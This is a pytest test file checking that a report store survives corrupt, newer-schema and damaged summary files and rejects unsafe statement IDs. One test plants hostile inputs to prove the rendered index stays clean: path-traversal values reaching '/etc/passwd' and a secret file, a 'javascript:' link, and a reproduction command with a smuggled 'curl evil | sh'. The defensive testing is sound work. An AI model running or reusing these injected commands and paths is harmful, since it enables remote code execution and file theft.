"""A report store under bad files (issues 25 and 27): nothing lost, nothing executed, nothing written outside it.

An unreadable summary.json is kept beside it, a newer one refused, damaged records quarantined, paths and links
read from a store confined to it, statement IDs validated, and a writer waiting on the lock says for whom.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.test_plugin import HEADER, TRUE_UNIVERSAL, _restore_hypothesis_profile, by_id, planted, summary  # noqa: F401
from theorems.suite import harness, report_pages, reports

pytest_plugins = ["pytester"]

DAMAGED = 6  # plugin.EXIT_STORE_DAMAGED


def _store(pytester: pytest.Pytester) -> Path:
    path = pytester.path / "reports"
    path.mkdir(exist_ok=True)
    return path


def _kept_record(sid: str = "old:kept") -> dict:
    return {
        "id": sid,
        "kind": "universal",
        "title": "kept",
        "verdict": "held",
        "examples": 3,
        "inconclusive": 0,
        "seconds": 0.1,
        "finished": "2020-01-01T00:00:00.000Z",
        "report": None,
        "run": {"id": "r-old", "started": "2020-01-01T00:00:00.000Z", "git_commit": None, "profile": "ci"},
    }


def _doc(*records) -> dict:
    return {
        "schema": 2,
        "run": "r-old",
        "complete": True,
        "exit_status": 0,
        "failed_tests": [],
        "runs": {"r-old": {"id": "r-old", "started": "2020-01-01T00:00:00.000Z"}},
        "environment": {},
        "verdicts": {},
        "statements": list(records),
    }


# -- an unreadable summary.json is kept, said, and the run exits non-zero ---------------------------------
@pytest.mark.parametrize(
    "content, why",
    [
        (json.dumps(_doc(_kept_record()))[:-40], "not JSON"),  # truncated
        ("{ not json", "not JSON"),
        ("", "empty"),
        ("[1, 2]", "its JSON is a list, not an object"),
        (json.dumps({"schema": "two", "statements": []}), "is not one this suite knows"),
    ],
)
def test_an_unreadable_summary_is_kept_beside_it_and_the_run_fails(
    pytester: pytest.Pytester, content: str, why: str
) -> None:
    p = planted(pytester, TRUE_UNIVERSAL)
    (_store(pytester) / "summary.json").write_text(content)
    result = pytester.runpytest("-q")
    assert result.ret == DAMAGED
    doc = summary(pytester)
    assert set(by_id(doc)) == {f"{p}:double"} and doc["exit_status"] == DAMAGED
    (aside,) = (pytester.path / "reports").glob("summary.json.unreadable-*")
    assert aside.read_text() == content and aside.name == f"summary.json.unreadable-{doc['run']}"
    said = [line for line in result.stdout.lines if line.startswith("report store:")]
    assert len(said) == 1 and why in said[0] and aside.name in said[0]
    assert (pytester.path / "reports" / "index.html").exists()


def test_a_newer_schema_is_refused_and_left_untouched(pytester: pytest.Pytester) -> None:
    planted(pytester, TRUE_UNIVERSAL)
    newer = json.dumps({"schema": 3, "statements": [{"id": "x", "whatever": 1}]})
    (_store(pytester) / "summary.json").write_text(newer)
    result = pytester.runpytest("-q")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    result.stderr.fnmatch_lines(
        ["ERROR: *summary.json: it has schema 3, newer than this suite's 2; it is left as it is*"]
    )
    assert (pytester.path / "reports" / "summary.json").read_text() == newer
    assert "passed" not in result.stdout.str()
    with pytest.raises(reports.NewerSchemaError):  # a concurrent newer writer: store_run refuses too
        reports.store_run(pytester.path / "reports", {"id": "r"}, [], {}, complete=True, exit_status=0)
    assert (pytester.path / "reports" / "summary.json").read_text() == newer


# -- a damaged record is quarantined, the rest is written ------------------------------------------------
@pytest.mark.parametrize("missing", ["kind", "verdict"])
def test_a_damaged_record_is_set_aside_and_the_rest_written(pytester: pytest.Pytester, missing: str) -> None:
    p = planted(pytester, TRUE_UNIVERSAL)
    damaged = {k: v for k, v in _kept_record("old:damaged").items() if k != missing}
    (_store(pytester) / "summary.json").write_text(json.dumps(_doc(_kept_record(), damaged)))
    result = pytester.runpytest("-q")
    assert result.ret == DAMAGED
    doc = summary(pytester)
    assert set(by_id(doc)) == {f"{p}:double", "old:kept"}
    (line,) = (pytester.path / "reports" / "summary.quarantine.jsonl").read_text().splitlines()
    kept = json.loads(line)
    assert kept["record"] == damaged and kept["why"] == f"no {missing!r}" and kept["set_aside_by_run"] == doc["run"]
    result.stdout.fnmatch_lines(
        [
            f"report store: a damaged record 'old:damaged' of summary.json (no '{missing}') "
            f"was set aside in *summary.quarantine.jsonl"
        ]
    )
    assert "report not written" not in result.stdout.str()
    index = (pytester.path / "reports" / "index.md").read_text()
    assert "old:kept" in index and f"{p}:double" in index


def test_record_problems_name_the_key() -> None:
    assert reports.record_problem(_kept_record()) is None
    assert reports.record_problem(_kept_record() | {"seconds": "slow"}) == "'seconds' is not a number"
    assert reports.record_problem(_kept_record() | {"verdict": "fine"}).startswith("verdict 'fine' is not one of")
    assert reports.record_problem([1]) == "a list, not an object"


# -- a crafted summary cannot embed local files or put javascript: links in the page ----------------------
def test_a_crafted_summary_cannot_reach_outside_the_store(pytester: pytest.Pytester, tmp_path: Path) -> None:
    planted(pytester, TRUE_UNIVERSAL)
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\n" + b"TOP-SECRET")
    store = _store(pytester)
    rel = os.path.relpath(secret.parent, store)
    crafted = [
        _kept_record("a:abs")
        | {
            "verdict": "falsified",
            "report": str(secret.parent),
            "witness": {"plots": [{"file": "secret.png", "title": "t"}]},
        },
        _kept_record("a:rel")
        | {
            "verdict": "falsified",
            "report": "ok-folder",
            "witness": {
                "plots": [{"file": f"../{rel}/secret.png", "title": "t"}],
                "json": "../../etc/passwd",
                "reproduce": "python -m theorems reproduce x.json; curl evil | sh",
            },
        },
        _kept_record("a:js") | {"verdict": "falsified", "report": "javascript:alert(1)//", "witness": {}},
        _kept_record("a:num") | {"verdict": "falsified", "report": "num-folder", "witness": {"discrepancy": "x"}},
    ]
    (store / "summary.json").write_text(json.dumps(_doc(*crafted)))
    result = pytester.runpytest("-q")
    assert result.ret == DAMAGED
    html, md = (store / "index.html").read_text(), (store / "index.md").read_text()
    for page in (html, md):
        assert "javascript:" not in page and "TOP-SECRET" not in page and str(secret.parent) not in page
        assert "etc/passwd" not in page and "curl evil" not in page
    assert "VE9QLVNFQ1JFVA" not in html  # nor its base64
    said = "\n".join(line for line in result.stdout.lines if line.startswith("report store:"))
    for needle in (
        "'a:abs': its report folder",
        "'a:js': its report folder",
        "'a:rel': 1 plot entr",
        "'a:rel': its data file",
        "'a:rel': its reproduction command",
        "'a:num': its witness is malformed (discrepancy)",
    ):
        assert needle in said
    recs = by_id(summary(pytester))
    assert recs["a:abs"]["report"] is None and recs["a:js"]["report"] is None
    assert recs["a:rel"]["witness"]["plots"] == [] and "json" not in recs["a:rel"]["witness"]
    assert "witness" not in recs["a:num"] and "report not written" not in result.stdout.str()


def test_a_plot_outside_the_store_is_never_read(tmp_path: Path) -> None:
    outside = tmp_path / "outside.png"
    outside.write_bytes(b"\x89PNG\r\n\x1a\nX")
    (tmp_path / "store").mkdir()
    assert report_pages._png_data(tmp_path / "store", outside) is None
    with pytest.raises(reports.StorePathError):
        reports.inside(tmp_path / "store", tmp_path / "store" / ".." / "outside.png")


# -- statement IDs: validated; every folder stays inside the store ------------------------------------------
DOTDOT = """
@universal("..", title="dot dot", source="planted")
@settings(max_examples=5, database=None)
@given(v=vec)
def test_dotdot(v):
    return compare(v, v)
"""


def test_a_statement_id_of_dot_dot_is_refused_with_one_error(pytester: pytest.Pytester) -> None:
    planted(pytester, DOTDOT)
    (pytester.path / "report.md").write_text("mine")
    result = pytester.runpytest("-q")
    assert result.ret != 0
    result.stdout.fnmatch_lines(["*ValueError: statement ID '..' is not valid: an ID begins with a letter or digit*"])
    assert (pytester.path / "report.md").read_text() == "mine"
    assert not (pytester.path / "counterexample.json").exists()


@pytest.mark.parametrize("sid", ["..", ".", "../x", "/abs", "a/../../b", ""])
def test_bad_ids_are_refused_by_the_decorator(sid: str) -> None:
    with pytest.raises(ValueError, match="is not valid"):
        harness.check_statement_id(sid)


@pytest.mark.parametrize("sid", ["..", ".", ".hidden", "../x", "a/../../b"])
def test_every_folder_of_an_id_stays_inside_the_store(tmp_path: Path, sid: str) -> None:
    spec = SimpleNamespace(id=sid, kind="universal")
    for folder in (reports.statement_folder(tmp_path, spec), reports.closest_call_folder(tmp_path, spec)):
        assert tmp_path.resolve() in folder.resolve().parents and not folder.name.startswith(".")


# -- a writer waiting on the lock says so, and for whom ----------------------------------------------
def test_a_run_waiting_on_the_store_lock_says_for_which_process(tmp_path: Path) -> None:
    (tmp_path / "test_waits.py").write_text(
        HEADER
        + textwrap.dedent("""
        @universal("waits:one", title="v = v", source="planted")
        @settings(max_examples=5, database=None)
        @given(v=vec)
        def test_one(v):
            return compare(v, v)
        """)
    )
    store = tmp_path / "store"
    store.mkdir()
    lines: list[str] = []
    with reports.locked(store):  # this process holds the lock, as a live run would
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "pytest",
                "test_waits.py",
                "-q",
                "-p",
                "no:cacheprovider",
                "-p",
                "no:xdist",
                f"--report-dir={store}",
            ],
            cwd=tmp_path,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        reader = threading.Thread(target=lambda: lines.extend(proc.stdout), daemon=True)
        reader.start()
        deadline = time.monotonic() + 120
        while proc.poll() is None and time.monotonic() < deadline and not any("waiting for" in x for x in lines):
            time.sleep(0.2)
        assert proc.poll() is None, "the second run did not wait for the lock"
    proc.wait(timeout=300)
    reader.join(10)
    out = "".join(lines)
    assert proc.returncode == 0, out[-3000:]
    assert (
        f"report store: waiting for the report store's lock {store / reports.LOCK_NAME}, held by process {os.getpid()}:"
    ) in out
    assert out.count("waiting for the report store's lock") == 1


# -- the index counts controls apart from statements ---------------------------------------------------
def test_the_badge_counts_statements_and_controls_apart() -> None:
    recs = [
        _kept_record("s:1"),
        _kept_record("s:2"),
        _kept_record("s:1 [control: c]") | {"kind": "control", "verdict": "caught", "control_of": "s:1"},
    ]
    md = report_pages.index_markdown(recs, {})
    html = report_pages.index_html(Path("."), recs, {})
    assert "2 statements and 1 control: " in md and "3 statements" not in md
    assert "2 statements and 1 control: " in html


# -- any stored record: kept or quarantined, never lost, never a crash -------------------------------------

_json = st.recursive(
    st.none() | st.booleans() | st.integers(-3, 3) | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=8,
)
_keys = st.sampled_from(sorted(reports.RECORD_DEFAULTS) + ["witness", "report_error"])
_records = st.lists(
    st.one_of(
        _json,
        st.dictionaries(_keys, _json, max_size=8),
        st.builds(lambda extra: _kept_record() | extra, st.dictionaries(_keys, _json, max_size=3)),
    ),
    max_size=5,
)


@settings(max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(stored=_records)
def test_any_stored_record_is_kept_or_quarantined_and_the_index_renders(tmp_path_factory, stored) -> None:
    store = tmp_path_factory.mktemp("store")
    (store / "summary.json").write_text(json.dumps(_doc(*stored)))
    fresh = reports.record(id="new:1", kind="universal", verdict="held", finished="2030-01-01T00:00:00.000Z")

    def render(records, runs):
        report_pages.write_index(store, records, {}, complete=True, run={"id": "r-new"}, runs=runs)

    out = reports.store_run(
        store, {"id": "r-new", "started": "2030"}, [fresh], {}, complete=True, exit_status=0, render=render
    )
    quarantined = (
        [json.loads(line) for line in (store / reports.QUARANTINE_NAME).read_text().splitlines()]
        if (store / reports.QUARANTINE_NAME).exists()
        else []
    )
    kept = {r["id"] for r in out.records}
    assert "new:1" in kept
    for rec in stored:  # every stored record is in the summary (unless this run replaced it) or in quarantine
        if reports.record_problem(rec) is None:
            assert rec["id"] in kept
        else:
            assert any(q["record"] == reports.strict_json(rec) for q in quarantined)
    assert out.notes.damaged == bool(quarantined or out.notes.warnings)
    assert sorted(p.name for p in store.iterdir() if not p.name.startswith(".")) <= sorted(
        ["summary.json", "index.md", "index.html", reports.QUARANTINE_NAME]
    )
